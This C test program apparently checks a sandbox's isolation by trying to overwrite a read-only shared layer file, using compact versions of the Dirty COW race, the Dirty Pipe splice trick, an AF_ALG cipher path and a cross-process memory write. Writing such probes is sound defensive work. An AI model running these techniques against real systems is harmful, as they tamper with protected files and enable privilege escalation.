// SPDX-FileCopyrightText: 2026 The Sandgate Authors
// SPDX-License-Identifier: Apache-2.0
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

// Tries to change the pages of a file that it may only read: a layer's, which all sandboxes share. Prints one line for each
// way and its outcome; whether a byte changed is for the caller to see, elsewhere.

enum { SIZE = 4096, RACE_SECONDS = 1 };

static char *view;
static int self_memory;
static volatile int racing;

static void tell(const char *what, long result) {
  printf("%s: %s\n", what, result < 0 ? strerrorname_np(errno) : "went");
}

static void *drop_pages(void *unused) {
  while (racing) {
    madvise(view, SIZE, MADV_DONTNEED);
  }
  return unused;
}

/// As CVE-2016-5195: a forced write to a private mapping whose copy is thrown away meanwhile.
static long race_of_forced_writes(void) {
  pthread_t thread;
  racing = 1;
  if (pthread_create(&thread, NULL, drop_pages, NULL) != 0) {
    return -1;
  }
  long result = 0;
  for (time_t end = time(NULL) + RACE_SECONDS; result >= 0 && time(NULL) <= end;) {
    result = pwrite(self_memory, "TAMPERED", 8, (off_t)(intptr_t)view);
  }
  racing = 0;
  pthread_join(thread, NULL);
  return result;
}

/// As CVE-2022-0847: a page of the file in a pipe whose buffers once could be written to.
static long write_to_a_spliced_page(int file) {
  int ends[2];
  char bytes[SIZE] = {0};
  if (pipe(ends) != 0) {
    return -1;
  }
  int room = fcntl(ends[1], F_GETPIPE_SZ);
  for (int i = 0; i < room / SIZE; i++) {
    if (write(ends[1], bytes, SIZE) != SIZE || read(ends[0], bytes, SIZE) != SIZE) {
      return -1;
    }
  }
  off_t from = 0;
  return splice(file, &from, ends[1], NULL, 1, 0) != 1 ? -1 : write(ends[1], "TAMPERED", 8);
}

/// As CVE-2026-31431: the file's pages as what a cipher of the kernel works on in place.
static long give_pages_to_a_cipher(int file) {
  int cipher = socket(AF_ALG, SOCK_SEQPACKET, 0);
  return cipher < 0 ? -1 : sendfile(cipher, file, NULL, SIZE);
}

static long write_as_another_process(void) {
  struct iovec from = {"TAMPERED", 8};
  struct iovec to = {view, 8};
  return process_vm_writev(getpid(), &from, 1, &to, 1, 0);
}

int main(int count, char **arguments) {
  int file = count == 2 ? open(arguments[1], O_RDONLY | O_CLOEXEC) : -1;
  view = mmap(NULL, SIZE, PROT_READ, MAP_PRIVATE, file, 0);
  self_memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  if (file < 0 || view == MAP_FAILED) {
    perror(arguments[0]);
    return 1;
  }
  tell("write", pwrite(file, "TAMPERED", 8, 0));
  tell("truncate", ftruncate(file, 0));
  tell("punch", fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, SIZE));
  tell("shared map", mmap(NULL, SIZE, PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
  tell("forced write", pwrite(self_memory, "TAMPERED", 8, (off_t)(intptr_t)view));
  tell("race", race_of_forced_writes());
  tell("pipe", write_to_a_spliced_page(file));
  tell("cipher", give_pages_to_a_cipher(file));
  tell("other process", write_as_another_process());
  return 0;
}
